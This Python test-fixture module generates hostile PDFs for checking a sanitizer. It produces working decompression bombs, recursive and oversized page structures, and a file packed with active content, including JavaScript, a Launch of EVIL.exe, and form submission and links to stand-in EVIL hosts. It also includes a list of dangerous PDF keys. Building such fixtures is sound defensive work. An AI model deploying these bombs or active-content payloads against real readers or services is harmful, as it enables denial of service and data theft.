"""PDF files that somebody could send, made by code: those that want to harm, and odd ones that are honest."""

import io
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

A4 = (595, 842)
FONT = Path(__file__).parents[2] / "resources" / "fonts" / "vazirmatn" / "Vazirmatn-Regular.ttf"
MARKS = (
    b"EVIL",
    b"/JavaScript",
    b"/JS",
    b"/Launch",
    b"/GoToR",
    b"/SubmitForm",
    b"/OpenAction",
    b"/AA",
    b"/EmbeddedFile",
    b"/RichMedia",
    b"/XFA",
    b"/AcroForm",
    b"/Annots",
    b"/URI",
)
"""What must not be left of `full_of_acts`: it has each of these."""


def raw_pdf(objects: dict[int, bytes], root: int = 1) -> bytes:
    """A PDF of exactly these objects."""
    out, at = io.BytesIO(), {}
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    for number, body in objects.items():
        at[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    start = out.tell()
    out.write(b"xref\n0 1\n0000000000 65535 f \n")
    for number, place in at.items():
        out.write(b"%d 1\n%010d 00000 n \n" % (number, place))
    out.write(b"trailer\n<</Size %d /Root %d 0 R>>\n" % (max(objects) + 1, root))
    out.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


def stream(data: bytes, head: bytes = b"") -> bytes:
    return b"<<%s /Length %d>>\nstream\n" % (head, len(data)) + data + b"\nendstream"


def packed_zeros(count: int, piece: bytes = b" ", first: bytes = b"") -> bytes:
    """A byte over and over, deflated: made in no time, as the same packed megabyte again and again."""
    engine = zlib.compressobj(9, wbits=-15)
    packed_first = engine.compress(first) + engine.flush(zlib.Z_FULL_FLUSH)
    megabyte = engine.compress(piece * (1 << 20)) + engine.flush(zlib.Z_FULL_FLUSH)
    times = count >> 20
    n, c, start = times << 20, piece[0], zlib.adler32(first)
    low, high = start & 0xFFFF, start >> 16
    high = (high + n * low + c * n * (n + 1) // 2) % 65521
    low = (low + n * c) % 65521
    tail = engine.flush(zlib.Z_FINISH) + (high << 16 | low).to_bytes(4, "big")
    return b"\x78\xda" + packed_first + megabyte * times + tail


def with_contents(contents: bytes, *, extra: bytes = b"", box: bytes = b"[0 0 595 842]", **more) -> bytes:
    """One page with this content stream object; `more` are `o5`, `o6` … further objects."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox" + box + b"/Contents 4 0 R" + extra + b">>",
        4: contents,
    }
    return raw_pdf(objects | {int(name[1:]): body for name, body in more.items()})


def saved(pdf: pikepdf.Pdf, **options) -> bytes:
    target = io.BytesIO()
    pdf.save(target, **options)
    return target.getvalue()


def plain(pages: int = 1, size=A4, contents: bytes = b"1 0 0 rg 0 0 20 20 re f") -> bytes:
    with pikepdf.new() as pdf:
        for _ in range(pages):
            pdf.add_blank_page(page_size=size)
            pdf.pages[-1].Contents = pdf.make_stream(contents)
        return saved(pdf)


# Bombs.


def flate_bomb(megabytes: int = 1000) -> bytes:
    return with_contents(stream(packed_zeros(megabytes << 20), b"/Filter/FlateDecode"))


def nested_bomb() -> bytes:
    """Two gigabytes in a few kilobytes: deflated deflate."""
    inner = zlib.compress(packed_zeros(1 << 30), 9)
    return with_contents(stream(inner, b"/Filter[/FlateDecode/FlateDecode]"))


def bomb_in_letters() -> bytes:
    import base64

    return with_contents(
        stream(base64.a85encode(packed_zeros(300 << 20)) + b"~>", b"/Filter[/ASCII85Decode/FlateDecode]")
    )


def run_length_bomb() -> bytes:
    return with_contents(stream(b"\x81 " * 1_200_000 + b"\x80", b"/Filter/RunLengthDecode"))


def many_filters() -> bytes:
    data = b"q Q"
    for _ in range(40):
        data = zlib.compress(data)
    return with_contents(stream(data, b"/Filter[" + b"/FlateDecode" * 40 + b"]"))


def object_stream_bomb(megabytes: int = 1024) -> bytes:
    """The catalog itself lies in an object stream that unpacks to a gigabyte."""
    first = b"1 0 2 40 3 90 "
    head = (
        first + b"<</Type/Catalog/Pages 2 0 R>>".ljust(40) + b"<</Type/Pages/Kids[3 0 R]/Count 1>>".ljust(50)
    )
    head += b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>"
    data = packed_zeros(megabytes << 20, first=head)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    at = out.tell()
    out.write(b"5 0 obj\n" + stream(data, b"/Type/ObjStm/N 3/First 14/Filter/FlateDecode") + b"\nendobj\n")
    start = out.tell()
    rows = b"\x00\x00\x00\xff" + b"".join(b"\x02\x00\x05" + bytes([n]) for n in range(3))
    rows += b"\x01" + start.to_bytes(2, "big")[-2:] + b"\x00" if start < 65536 else b"\x00\x00\x00\x00"
    rows += b"\x01" + at.to_bytes(2, "big") + b"\x00"
    xref = b"/Type/XRef/Size 6/Root 1 0 R/W[1 2 1]/Index[0 6]"
    out.write(b"4 0 obj\n" + stream(rows, xref) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


def lzw_bomb(megabytes: int = 900) -> bytes:
    """LZW of one letter over and over: codes that each stand for a longer run."""
    bits, codes = [], 0

    def put(code: int, width: int) -> None:
        bits.append(format(code, f"0{width}b"))

    want, made = megabytes << 20, 0
    one_round = []
    put(256, 9)
    put(32, 9)
    made, entries = 1, 258
    while entries < 4094:
        width = 9 if entries < 511 else 10 if entries < 1023 else 11 if entries < 2047 else 12
        put(entries, width)
        made += entries - 256
        entries += 1
        codes += 1
    put(256, 12)
    one_round = "".join(bits)[9:]
    rounds = max(1, want // made)
    text = format(256, "09b") + one_round * min(rounds, 120)
    text = text.ljust(-(-len(text) // 8) * 8, "0")
    data = int(text, 2).to_bytes(len(text) // 8, "big")
    return with_contents(stream(data, b"/Filter/LZWDecode"))


def forms_inside_themselves() -> bytes:
    head = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A 5 0 R>>>>"
    return with_contents(
        stream(b"/A Do"), extra=b"/Resources<</XObject<</A 5 0 R>>>>", o5=stream(b"/A Do /A Do", head)
    )


def billion_forms(levels: int = 11) -> bytes:
    """Each form draws the next one ten times."""
    more = {}
    for level in range(levels):
        inner = b"/Resources<</XObject<</A %d 0 R>>>>" % (6 + level) if level < levels - 1 else b""
        head = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]" + inner
        body = b"/A Do " * 10 if level < levels - 1 else b"0 0 1 1 re f"
        more[f"o{5 + level}"] = stream(body, head)
    return with_contents(stream(b"/A Do"), extra=b"/Resources<</XObject<</A 5 0 R>>>>", **more)


def same_page(times: int = 300_000) -> bytes:
    return raw_pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[" + b"3 0 R " * times + b"]/Count %d>>" % times,
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        }
    )


def tree_inside_itself() -> bytes:
    return raw_pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>",
        }
    )


def deep_tree(levels: int = 50_000) -> bytes:
    objects = {1: b"<</Type/Catalog/Pages 2 0 R>>"}
    for number in range(2, levels + 2):
        objects[number] = b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 1)
    objects[levels + 2] = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 9 9]>>" % (levels + 1)
    return raw_pdf(objects)


def nested_arrays(levels: int = 200_000) -> bytes:
    return with_contents(stream(b""), extra=b"/X " + b"[" * levels + b"]" * levels)


def giant_page() -> bytes:
    return with_contents(stream(b"0 0 9 9 re f"), box=b"[0 0 2000000 2000000]")


def giant_picture() -> bytes:
    head = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    picture = stream(packed_zeros(1 << 20, b"\0"), head + b"/Filter/FlateDecode")
    return with_contents(
        stream(b"q 99 0 0 99 0 0 cm /A Do Q"), extra=b"/Resources<</XObject<</A 5 0 R>>>>", o5=picture
    )


def outside_stream() -> bytes:
    return with_contents(b"<</Length 0/F(//server/share/x)/FFilter/FlateDecode>>\nstream\n\nendstream")


# Acts.


def full_of_acts(*, text: bytes = b"") -> bytes:
    """Every way to make a reader do something, each marked EVIL; its page draws a red square."""
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=A4)
        page = pdf.pages[0]
        page.Contents = pdf.make_stream(b"/P <</MCID 0>> BDC 1 0 0 rg 0 0 100 100 re f EMC " + text)
        act = lambda kind, **more: Dictionary(S=Name(kind), **more)  # noqa: E731
        script = act("/JavaScript", JS=String("EVIL()"))
        page.AA = Dictionary(O=script)
        page.PieceInfo = Dictionary(EVIL=Dictionary())
        pdf.Root.OpenAction = act("/Launch", F=String("EVIL.exe"))
        pdf.Root.AA = Dictionary(WC=script)
        pdf.Root.Names = Dictionary(
            JavaScript=Dictionary(Names=Array([String("EVIL"), script])),
        )
        pdf.attachments["EVIL.exe"] = b"MZ EVIL"
        box = [10, 10, 60, 30]

        def annotation(kind: str, **more: object) -> Dictionary:
            return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(kind), Rect=Array(box), **more))

        field = annotation("/Widget", FT=Name.Tx, T=String("name"), V=String("Kermanshah"), F=4, A=script)
        field.DA = String("/Helv 10 Tf 0 g")
        page.Annots = Array(
            [
                annotation("/Link", A=act("/GoToR", F=String("//EVIL/share"))),
                annotation("/Link", A=act("/URI", URI=String("http://EVIL.example/"))),
                annotation("/Link", A=act("/SubmitForm", F=String("http://EVIL/"))),
                annotation("/FileAttachment", FS=Dictionary(F=String("EVIL.exe"))),
                annotation("/RichMedia", Contents=String("EVIL")),
                field,
            ]
        )
        pdf.Root.AcroForm = Dictionary(
            Fields=Array([field]),
            XFA=pdf.make_stream(b"<xdp>EVIL</xdp>"),
            DR=Dictionary(
                Font=Dictionary(Helv=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
            ),
        )
        return saved(pdf)


def dynamic_form() -> bytes:
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=A4)
        pdf.pages[0].Contents = pdf.make_stream(b"BT (Please wait... ) Tj ET")
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
        return saved(pdf)


def signed() -> bytes:
    """Looks signed; nothing here checks who did it."""
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=A4)
        value = Dictionary(
            Type=Name.Sig,
            Filter=Name("/Adobe.PPKLite"),
            ByteRange=Array([0, 10, 20, 10]),
            Contents=String(b"\x30\x00"),
        )
        field = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                Rect=Array([0, 0, 0, 0]),
                FT=Name.Sig,
                T=String("mayor"),
                V=pdf.make_indirect(value),
            )
        )
        pdf.pages[0].Annots = Array([field])
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)
        return saved(pdf)


def locked(*, user: str = "", owner: str = "owner") -> bytes:
    with pikepdf.open(io.BytesIO(plain())) as pdf:
        return saved(pdf, encryption=pikepdf.Encryption(user=user, owner=owner))


# Honest, but odd.


def corner_page(*, size=A4, turn: int = 0, crop=None, inherited: bool = False) -> bytes:
    """Black, with a red square in the lower left corner of what is seen before it is turned."""
    left, bottom, right, top = crop or (0, 0, *size)
    side = min(right - left, top - bottom) / 4
    black = f"{left - 3} {bottom - 3} {right - left + 6} {top - bottom + 6} re f"
    drawn = (
        f"0.2 0.9 0.2 rg 0 0 {size[0]} {size[1]} re f 0 g {black} 1 0 0 rg {left} {bottom} {side} {side} re f"
    )
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=size)
        page = pdf.pages[0]
        page.Contents = pdf.make_stream(drawn.encode())
        if crop:
            page.CropBox = Array([left, bottom, right, top])
        if turn:
            page.Rotate = turn
        if inherited:
            for key in ("/MediaBox", "/CropBox", "/Rotate"):
                if key in page.obj:
                    pdf.Root.Pages[key] = page.obj[key]
                    del page.obj[key]
        return saved(pdf)


def with_font(text: bytes = b"Lifelong learning", *, font: bytes | None = None) -> bytes:
    """Text in Helvetica, which is not in the file; or in a font that is."""
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=A4)
        page = pdf.pages[0]
        made = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        if font is not None:
            program = pdf.make_stream(font)
            program.Length1 = len(font)
            made = Dictionary(
                Type=Name.Font,
                Subtype=Name.TrueType,
                BaseFont=Name("/ABCDEF+Own"),
                FirstChar=32,
                LastChar=126,
                Widths=Array([500] * 95),
                Encoding=Name.WinAnsiEncoding,
                FontDescriptor=pdf.make_indirect(
                    Dictionary(
                        Type=Name.FontDescriptor,
                        FontName=Name("/ABCDEF+Own"),
                        Flags=32,
                        FontBBox=Array([0, -200, 1000, 900]),
                        ItalicAngle=0,
                        Ascent=900,
                        Descent=-200,
                        CapHeight=700,
                        StemV=80,
                        FontFile2=pdf.make_indirect(program),
                    )
                ),
            )
        page.Resources = Dictionary(Font=Dictionary(F1=pdf.make_indirect(made)))
        page.Contents = pdf.make_stream(b"BT /F1 24 Tf 72 700 Td (" + text + b") Tj ET")
        return saved(pdf)


def press_colours() -> bytes:
    return plain(contents=b"0 1 1 0 k 0 0 200 200 re f")


def harmful() -> dict[str, tuple[bytes, tuple[str, ...]]]:
    """Files by name, with the codes that are right answers; empty codes: taken."""
    whole = full_of_acts()
    return {
        "flate bomb": (flate_bomb(), ("bomb",)),
        "nested bomb": (nested_bomb(), ("bomb",)),
        "bomb in letters": (bomb_in_letters(), ("bomb",)),
        "run length bomb": (run_length_bomb(), ("bomb",)),
        "many filters": (many_filters(), ("bomb",)),
        "object stream bomb": (object_stream_bomb(), ("bomb", "out_of_memory", "pdf_broken")),
        "lzw bomb": (lzw_bomb(), ("bomb",)),
        "forms inside themselves": (forms_inside_themselves(), ("nested_too_deep",)),
        "billion forms": (billion_forms(), ("bomb",)),
        "same page": (same_page(), ("too_many_pages",)),
        "tree inside itself": (tree_inside_itself(), ("pdf_broken",)),
        "deep tree": (deep_tree(), ("pdf_broken", "nested_too_deep")),
        "nested arrays": (nested_arrays(), ("pdf_broken", "nested_too_deep", "")),
        "giant page": (giant_page(), ("page_too_large",)),
        "giant picture": (giant_picture(), ("picture_too_large",)),
        "stream outside": (outside_stream(), ("pdf_broken",)),
        "full of acts": (whole, ("",)),
        "password": (locked(user="secret"), ("needs_password",)),
        "cut off": (whole[: len(whole) * 2 // 3], ("", "pdf_broken")),
        "dynamic form": (dynamic_form(), ("dynamic_form",)),
        "no pdf": (b"Dear sender, here is the file.", ("not_a_picture",)),
        "garbage": (b"%PDF-1.7\n" + bytes(range(256)) * 40, ("pdf_broken",)),
    }
